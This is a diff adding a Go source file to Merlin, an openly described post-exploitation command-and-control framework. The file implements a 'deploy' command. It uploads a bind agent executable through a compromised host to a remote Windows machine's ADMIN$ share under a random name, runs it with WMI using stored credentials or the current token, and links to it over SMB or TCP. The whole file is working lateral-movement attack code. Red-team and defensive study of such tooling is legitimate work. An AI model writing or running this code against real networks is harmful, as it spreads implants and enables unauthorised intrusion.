@@ -0,0 +1,174 @@
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2024 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package job
+
+import (
+	// Standard
+	"context"
+	"crypto/sha256"
+	"encoding/base64"
+	"fmt"
+	"net"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"time"
+
+	// 3rd Party
+	"github.com/google/uuid"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin/v2/pkg/client/message"
+	"github.com/Ne0nd0g/merlin/v2/pkg/core"
+	infoJobs "github.com/Ne0nd0g/merlin/v2/pkg/jobs"
+	"github.com/Ne0nd0g/merlin/v2/pkg/listeners"
+)
+
+const (
+	// deployTimeout is the longest to wait for each step of a deployment, the upload and the execution, to complete
+	deployTimeout = time.Hour
+	// deployPipe is the named pipe a deployed SMB bind Agent listens on when one isn't provided; the SMB listener's default
+	deployPipe = "merlinpipe"
+	// deployPort is the port a deployed TCP bind Agent listens on when one isn't provided; the TCP listener's default
+	deployPort = "7777"
+)
+
+// deploy uploads a bind Agent to a remote Windows host's ADMIN$ share through the Agent, executes it with WMI, and links
+// to it once it is running. The pivot listener for the bind Agent is configured first so that the bind Agent's messages
+// are handled with the PSK and transforms of the deploying Agent's listener
+// jobArgs[0] - the bind Agent's peer-to-peer protocol: smb or tcp
+// jobArgs[1] - the remote host to deploy the bind Agent to
+// jobArgs[2] - the file path, on the Merlin server, of the bind Agent
+// jobArgs[3] - optional named pipe or port the bind Agent listens on; the listener's default is used if empty
+// jobArgs[4] - optional username to retrieve credentials for from the credential store; the current token is used if empty
+func (s *Service) deploy(agentID uuid.UUID, jobArgs []string) (string, error) {
+	if len(jobArgs) < 3 {
+		return "", fmt.Errorf("expected at least 3 arguments for the deploy command, received: %+v", jobArgs)
+	}
+	a, err := s.agentService.Agent(agentID)
+	if err != nil {
+		return "", err
+	}
+
+	protocol, target := strings.ToLower(jobArgs[0]), jobArgs[1]
+	var address string
+	if len(jobArgs) > 3 {
+		address = jobArgs[3]
+	}
+	var link string
+	switch protocol {
+	case "smb":
+		if address == "" {
+			address = deployPipe
+		}
+		link = smbLink(target, address)
+	case "tcp":
+		if address == "" {
+			address = deployPort
+		}
+		address = net.JoinHostPort(target, address)
+		link = fmt.Sprintf("tcp %s", address)
+	default:
+		return "", fmt.Errorf("the deploy command supports smb and tcp bind agents, received: %s", jobArgs[0])
+	}
+	var user string
+	if len(jobArgs) > 4 {
+		user = jobArgs[4]
+	}
+	// Fail before anything is sent to the Agent if the credentials are not in the credential store
+	_, _, err = s.windowsCredential([]string{user})
+	if err != nil {
+		return "", err
+	}
+
+	data, err := os.ReadFile(jobArgs[2])
+	if err != nil {
+		return "", fmt.Errorf("there was an error reading the bind agent to deploy: %s", err)
+	}
+
+	pivot, err := listeners.Deployed(listeners.Pivot{Agent: agentID, Protocol: protocol, Host: target, Address: address}, a.Listener())
+	if err != nil {
+		return "", err
+	}
+
+	_, err = s.payloadService.Register(filepath.Base(jobArgs[2]), data, time.Time{}, pivot.Listener, "", "deploy")
+	if err != nil {
+		s.messageRepo.Add(message.NewMessage(message.Warn, fmt.Sprintf("there was an error adding the deployed bind agent to the payload inventory: %s", err)))
+	}
+
+	name := fmt.Sprintf("%s.exe", core.RandStringBytesMaskImprSrc(8))
+	share := fmt.Sprintf("\\\\%s\\ADMIN$\\Temp\\%s", target, name)
+	local := fmt.Sprintf("C:\\Windows\\Temp\\%s", name)
+	hash := sha256.Sum256(data)
+	uploadID, err := s.Task(agentID, "upload", []string{base64.StdEncoding.EncodeToString(data), share, string(hash[:]), strconv.Itoa(len(data))})
+	if err != nil {
+		return "", err
+	}
+	go s.deployWhenUploaded(agentID, uploadID, target, local, user, link)
+
+	results := fmt.Sprintf("Deploying the %s bind agent to %s through listener %s", protocol, target, pivot.Listener)
+	results += fmt.Sprintf("\n\tCreated job %s to upload %s to %s", uploadID, jobArgs[2], share)
+	results += fmt.Sprintf("\n\tThe bind agent is executed with WMI and linked with '%s' after the upload completes", link)
+	return results, nil
+}
+
+// deployWhenUploaded waits for the bind Agent to be uploaded, executes it on the remote host, and then links to it
+func (s *Service) deployWhenUploaded(agentID uuid.UUID, uploadID, target, local, user, link string) {
+	ctx, cancel := context.WithTimeout(context.Background(), deployTimeout*2)
+	defer cancel()
+
+	steps := []struct {
+		name string
+		args []string
+	}{
+		{"wmiexec", []string{target, local, user}},
+		{"link", strings.Fields(link)},
+	}
+	jobID := uploadID
+	for _, step := range steps {
+		stepCtx, stepCancel := context.WithTimeout(ctx, deployTimeout)
+		result, err := s.Wait(stepCtx, jobID)
+		stepCancel()
+		// The job's results may have been handled before this function started waiting on them
+		if info, errInfo := s.jobRepo.GetInfo(jobID); err != nil && errInfo == nil && info.Status() == infoJobs.COMPLETE {
+			err = nil
+		}
+		if err == nil && result.Stderr != "" {
+			err = fmt.Errorf("%s", result.Stderr)
+		}
+		if err != nil {
+			msg := fmt.Sprintf("Stopped deploying the bind agent to %s for agent %s because job %s failed: %s", target, agentID, jobID, err)
+			_ = s.agentService.Log(agentID, msg)
+			s.messageRepo.Add(message.NewMessage(message.Warn, msg))
+			return
+		}
+		jobID, err = s.Task(agentID, step.name, step.args)
+		if err != nil {
+			msg := fmt.Sprintf("there was an error creating the %s job to deploy the bind agent to %s for agent %s: %s", step.name, target, agentID, err)
+			s.messageRepo.Add(message.NewMessage(message.Warn, msg))
+			return
+		}
+		msg := fmt.Sprintf("Created %s job %s to deploy the bind agent to %s for agent %s", step.name, jobID, target, agentID)
+		_ = s.agentService.Log(agentID, msg)
+		s.messageRepo.Add(message.NewMessage(message.Info, msg))
+	}
+}